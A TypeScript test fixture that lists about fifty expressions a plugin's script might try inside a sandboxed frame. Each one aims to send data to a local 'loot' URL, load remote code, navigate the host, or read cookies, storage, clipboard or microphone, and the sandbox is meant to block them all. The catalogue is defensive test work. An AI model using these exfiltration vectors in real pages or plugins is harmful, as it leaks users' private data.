/** Where the attacks send what they have; nothing may arrive there. */
export const LOOT_URL = 'http://127.0.0.1:LOOT/';

const APPEND = (tag: string, assignments: string) =>
  `{ const it = document.createElement('${tag}'); ${assignments}; document.body.append(it); it }`;

/**
 * What a plugin's script may try in its frame, as expressions. Each is refused, throws, or does nothing that reaches
 * the network, the host's page or the disk.
 */
export const FRAME_ATTACKS: Readonly<Record<string, string>> = {
  'send by fetch': `fetch('${LOOT_URL}fetch')`,
  'send to an origin that the manifest grants, past the host': `fetch('https://granted.example/')`,
  'send by XMLHttpRequest': `{ const it = new XMLHttpRequest(); it.open('GET', '${LOOT_URL}xhr'); it.send() }`,
  'send by a beacon': `navigator.sendBeacon('${LOOT_URL}beacon', 'loot')`,
  'open a web socket': `new WebSocket('${LOOT_URL.replace('http', 'ws')}socket')`,
  'listen to server-sent events': `new EventSource('${LOOT_URL}events')`,
  'send by the address of a picture': APPEND('img', `it.src = '${LOOT_URL}picture'`),
  'send by a picture within a picture': APPEND(
    'img',
    `it.src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><image href="${LOOT_URL}svg"/></svg>')`,
  ),
  'send by a background': APPEND(
    'div',
    `it.style.background = 'url(${LOOT_URL}background)'; it.textContent = 'x'`,
  ),
  'send by a style sheet': APPEND('link', `it.rel = 'stylesheet'; it.href = '${LOOT_URL}sheet'`),
  'send by an inline style sheet': APPEND(
    'style',
    `it.textContent = '@import "${LOOT_URL}import";'`,
  ),
  'send by a font': `new FontFace('x', 'url(${LOOT_URL}font)').load()`,
  'send by a film': APPEND('video', `it.src = '${LOOT_URL}film'; it.preload = 'auto'`),
  'send by a film’s poster': APPEND('video', `it.poster = '${LOOT_URL}poster'`),
  'send by an embedded object': APPEND('object', `it.data = '${LOOT_URL}object'`),
  'send by a prefetch': APPEND('link', `it.rel = 'prefetch'; it.href = '${LOOT_URL}prefetch'`),
  'send by a preload': APPEND(
    'link',
    `it.rel = 'preload'; it.as = 'image'; it.href = '${LOOT_URL}preload'`,
  ),
  'send by the ping of a link': APPEND(
    'a',
    `it.href = '#x'; it.ping = '${LOOT_URL}ping'; document.body.append(it); it.click()`,
  ),
  'send by a form': APPEND(
    'form',
    `it.action = '${LOOT_URL}form'; document.body.append(it); it.submit()`,
  ),
  'go elsewhere with the loot in the address': `location.href = '${LOOT_URL}location'`,
  'go elsewhere by a link': APPEND(
    'a',
    `it.href = '${LOOT_URL}link'; document.body.append(it); it.click()`,
  ),
  'go elsewhere by a refresh': APPEND(
    'meta',
    `it.httpEquiv = 'refresh'; it.content = '0;url=${LOOT_URL}refresh'`,
  ),
  'send by a frame of its own': APPEND('iframe', `it.src = '${LOOT_URL}frame'`),
  'send from inside a frame of its own': APPEND(
    'iframe',
    `document.body.append(it); it.contentWindow.fetch('${LOOT_URL}inner')`,
  ),
  'send from a worker': `new Worker(URL.createObjectURL(new Blob(["fetch('${LOOT_URL}worker')"])))`,
  'load code into a worker': `new Worker(URL.createObjectURL(new Blob(["importScripts('${LOOT_URL}code')"])))`,
  'keep a worker running without it': `navigator.serviceWorker.register('${LOOT_URL}service')`,
  'load a script': APPEND('script', `it.src = '${LOOT_URL}script'`),
  'load a module': `import('${LOOT_URL}module.js')`,
  'open a window': `window.open('${LOOT_URL}window')`,
  'navigate the host': `top.location.href = '${LOOT_URL}top'`,
  'run code from strings': `new Function('return 1')()`,
  'run code from a timer’s string': `setTimeout("fetch('${LOOT_URL}timer')")`,
  'run an inline script': APPEND('script', `it.textContent = "document.title = 'owned'"`),
  'run an inline handler': `{ document.body.innerHTML = '<img src=x onerror="document.title=1">' }`,
  'read the host’s page': 'parent.document.title',
  'read the host’s cookies': 'document.cookie',
  'read the host’s storage': 'localStorage.length',
  'read the host’s databases': `new Promise((resolve, reject) => {
    const request = indexedDB.open('mystratus'); request.onsuccess = resolve; request.onerror = reject; })`,
  'read the host’s caches': 'caches.keys()',
  'write a file': 'showSaveFilePicker()',
  'start a download': APPEND(
    'a',
    `it.href = 'data:text/plain,x'; it.download = 'x.bat'; document.body.append(it); it.click()`,
  ),
  'block the window with an alert': `alert('Your computer is infected.')`,
  'read the clipboard': 'navigator.clipboard.readText()',
  'find out where the user is': `new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`,
  'listen to the microphone': 'navigator.mediaDevices.getUserMedia({ audio: true })',
  'fill the screen': 'document.documentElement.requestFullscreen()',
  'share memory with a clock to measure by': 'new SharedArrayBuffer(8)',
};
